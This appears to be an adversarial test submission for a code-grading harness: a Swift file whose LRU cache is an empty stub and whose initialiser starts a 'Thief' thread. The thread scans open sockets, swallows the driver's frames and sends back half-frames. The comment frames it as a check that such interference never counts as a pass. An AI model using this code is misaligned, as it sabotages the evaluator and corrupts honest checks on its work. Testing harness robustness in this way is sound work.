// corpus: whole submission
import Glibc

/// A cache that solves nothing, and a thread that steals frames from the driver's channel (every
/// socket among its descriptors) so that the runtime answers only some of the driver's requests,
/// and then writes half-frames back. Unanswered requests are a timeout or a crash, never a pass.
final class LRUCache<Key: Hashable, Value> {
    init(capacity: Int) { Thief.start() }
    func get(_ key: Key) -> Value? { nil }
    func put(_ key: Key, _ value: Value) {}
    var count: Int { 0 }
}

enum Thief {
    nonisolated(unsafe) static var started = false

    static func start() {
        if started { return }
        started = true
        var thread = pthread_t()
        _ = pthread_create(&thread, nil, { _ in
            var buffer = [UInt8](repeating: 0, count: 37)
            while true {
                for descriptor in Int32(3)..<1024 {
                    var status = stat()
                    guard fstat(descriptor, &status) == 0, status.st_mode & S_IFMT == S_IFSOCK else { continue }
                    let taken = recv(descriptor, &buffer, buffer.count, Int32(MSG_DONTWAIT))
                    if taken > 0 { _ = send(descriptor, buffer, taken / 2, Int32(MSG_DONTWAIT)) }
                }
                usleep(100)
            }
        }, nil)
    }
}
